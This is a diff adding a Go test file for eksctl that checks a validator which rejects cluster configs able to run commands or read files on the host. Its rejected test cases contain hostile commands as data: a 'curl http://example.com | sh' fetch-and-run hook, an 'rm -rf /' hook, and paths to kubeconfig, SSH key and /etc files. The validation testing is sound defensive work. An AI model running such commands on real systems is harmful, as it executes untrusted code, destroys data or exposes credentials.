@@ -0,0 +1,68 @@
+package v1alpha5_test
+
+import (
+	. "github.com/onsi/ginkgo"
+	. "github.com/onsi/ginkgo/extensions/table"
+	. "github.com/onsi/gomega"
+
+	api "github.com/weaveworks/eksctl/pkg/apis/eksctl.io/v1alpha5"
+)
+
+var _ = Describe("ValidateSubmittedConfig", func() {
+	newConfig := func() *api.ClusterConfig {
+		cfg := api.NewClusterConfig()
+		cfg.Metadata.Name = "cluster"
+		cfg.Metadata.Region = "us-west-2"
+		return cfg
+	}
+
+	It("accepts configs that do not run commands or read files on the host", func() {
+		cfg := newConfig()
+		cfg.Bootstrap = &api.Bootstrap{Manifests: []string{"https://example.com/manifest.yaml"}}
+		cfg.HelmReleases = []*api.HelmRelease{{Name: "podinfo", Chart: "podinfo", Repository: "https://stefanprodan.github.io/podinfo", Version: "6.0.0"}}
+		ng := cfg.NewNodeGroup()
+		ng.Name = "ng"
+		ng.SSH = &api.NodeGroupSSH{Allow: api.Enabled(), PublicKeyName: &[]string{"key"}[0]}
+		Expect(api.ValidateSubmittedConfig(cfg)).To(Succeed())
+	})
+
+	DescribeTable("rejects configs that run commands or read files on the host", func(update func(*api.ClusterConfig), expectedErr string) {
+		cfg := newConfig()
+		update(cfg)
+		Expect(api.ValidateSubmittedConfig(cfg)).To(MatchError(expectedErr))
+	},
+		Entry("post-create hooks", func(cfg *api.ClusterConfig) {
+			cfg.Hooks = &api.Hooks{PostCreate: []string{"curl http://example.com | sh"}}
+		}, "hooks cannot be set, as they would run commands on the host of eksctl"),
+		Entry("pre-delete hooks", func(cfg *api.ClusterConfig) {
+			cfg.Hooks = &api.Hooks{PreDelete: []string{"rm -rf /"}}
+		}, "hooks cannot be set, as they would run commands on the host of eksctl"),
+		Entry("gitops", func(cfg *api.ClusterConfig) {
+			cfg.GitOps = &api.GitOps{Flux: &api.Flux{GitProvider: "github"}}
+		}, "gitops cannot be set, as it would run the Flux CLI on the host of eksctl"),
+		Entry("local bootstrap manifests", func(cfg *api.ClusterConfig) {
+			cfg.Bootstrap = &api.Bootstrap{PreDeleteManifests: []string{"~/.kube/config"}}
+		}, "bootstrap.preDeleteManifests[0] must be an http(s) URL, local paths cannot be read"),
+		Entry("local chart repositories", func(cfg *api.ClusterConfig) {
+			cfg.HelmReleases = []*api.HelmRelease{{Name: "chart", Chart: "chart", Repository: "file:///etc", Version: "1.0.0"}}
+		}, "helmReleases[0].repository must be an http(s) or oci URL"),
+		Entry("local SSH public keys", func(cfg *api.ClusterConfig) {
+			ng := cfg.NewNodeGroup()
+			ng.Name = "ng"
+			ng.SSH = &api.NodeGroupSSH{Allow: api.Enabled(), PublicKeyPath: &[]string{"/root/.ssh/id_rsa.pub"}[0]}
+		}, `ssh.publicKeyPath of nodegroup "ng" cannot be set, local paths cannot be read; set ssh.publicKey or ssh.publicKeyName instead`),
+		Entry("default SSH public keys", func(cfg *api.ClusterConfig) {
+			ng := cfg.NewNodeGroup()
+			ng.Name = "ng"
+			ng.SSH = &api.NodeGroupSSH{Allow: api.Enabled()}
+		}, `ssh.publicKey or ssh.publicKeyName of nodegroup "ng" must be set when SSH access is allowed`),
+		Entry("well-known policy registries", func(cfg *api.ClusterConfig) {
+			cfg.IAM.WellKnownPolicyRegistry = "policies.yaml"
+		}, "iam.wellKnownPolicyRegistry cannot be set, local paths cannot be read"),
+		Entry("node provisioner plugins", func(cfg *api.ClusterConfig) {
+			ng := cfg.NewNodeGroup()
+			ng.Name = "ng"
+			ng.Provisioner = "ocean"
+		}, `provisioner of nodegroup "ng" cannot be set, as it would run a plugin on the host of eksctl`),
+	)
+})